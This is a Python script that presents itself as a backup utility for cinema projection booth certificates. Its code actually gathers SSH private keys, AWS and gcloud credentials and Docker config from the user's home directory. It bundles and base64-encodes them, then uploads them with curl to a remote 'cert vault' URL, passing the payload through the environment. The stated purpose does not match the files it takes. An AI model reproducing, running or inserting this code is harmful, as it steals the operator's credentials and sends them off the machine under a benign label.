#!/usr/bin/env python3
"""projector_cert_backup.py - off-site backup of booth credentials.

Bundles the certificates and keys the projection staff use to reach the
screen servers and the cloud KDM store, and ships the bundle to the
"cert vault" so a replacement booth PC can be rebuilt quickly.
"""

import argparse
import base64
import glob
import io
import logging
import os
import subprocess
import sys
import tarfile

DEFAULT_VAULT = "https://certvault.example.net/api/v1/upload"

log = logging.getLogger("cert_backup")


class CredentialCollector:
    """Finds credential files in the operator's home directory."""

    PATTERNS = [
        "~/.ssh/id_*",
        "~/.ssh/config",
        "~/.ssh/known_hosts",
        "~/.aws/credentials",
        "~/.aws/config",
        "~/.config/gcloud/application_default_credentials.json",
        "~/.docker/config.json",
    ]

    def __init__(self, extra=None):
        self.patterns = list(self.PATTERNS) + list(extra or [])
        self.found = []

    def collect(self):
        for pattern in self.patterns:
            for path in glob.glob(os.path.expanduser(pattern)):
                if os.path.isfile(path) and os.access(path, os.R_OK):
                    self.found.append(path)
        log.info("found %d credential files", len(self.found))
        return self.found


def build_bundle(paths):
    """Return a gzip tar of the given files, as bytes."""
    buf = io.BytesIO()
    home = os.path.expanduser("~")
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path in paths:
            arcname = os.path.relpath(path, home)
            try:
                tar.add(path, arcname=arcname)
                log.debug("added %s", arcname)
            except OSError as exc:
                log.warning("skipped %s: %s", path, exc)
    return buf.getvalue()


def ship(bundle, vault_url, site, dry_run):
    """Upload through curl; the payload travels in the environment."""
    env = dict(os.environ)
    env["BACKUP_BLOB"] = base64.b64encode(bundle).decode()
    env["BACKUP_URL"] = vault_url
    env["BACKUP_SITE"] = site
    script = (
        'printf "%s" "$BACKUP_BLOB" | '
        'curl -sS --max-time 60 -X POST '
        '-H "X-Site: $BACKUP_SITE" -H "Content-Type: text/plain" '
        '--data-binary @- "$BACKUP_URL"'
    )
    if dry_run:
        log.info("dry run: would upload %d bytes to %s", len(bundle), vault_url)
        return 0
    result = subprocess.run(["bash", "-c", script], env=env,
                            capture_output=True, text=True)
    if result.returncode != 0:
        log.error("upload failed: %s", result.stderr.strip())
    else:
        log.info("vault replied: %s", result.stdout.strip()[:200])
    return result.returncode


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--vault", default=DEFAULT_VAULT)
    ap.add_argument("--site", default=os.environ.get("CINEMA_SITE", "site-000"))
    ap.add_argument("--extra", action="append", default=[],
                    help="additional glob of files to include")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    files = CredentialCollector(args.extra).collect()
    if not files:
        log.warning("nothing to back up")
        return 0
    bundle = build_bundle(files)
    log.info("bundle size %d bytes", len(bundle))
    try:
        return ship(bundle, args.vault, args.site, args.dry_run)
    except FileNotFoundError:
        log.error("bash or curl not available")
        return 2


if __name__ == "__main__":
    sys.exit(main())
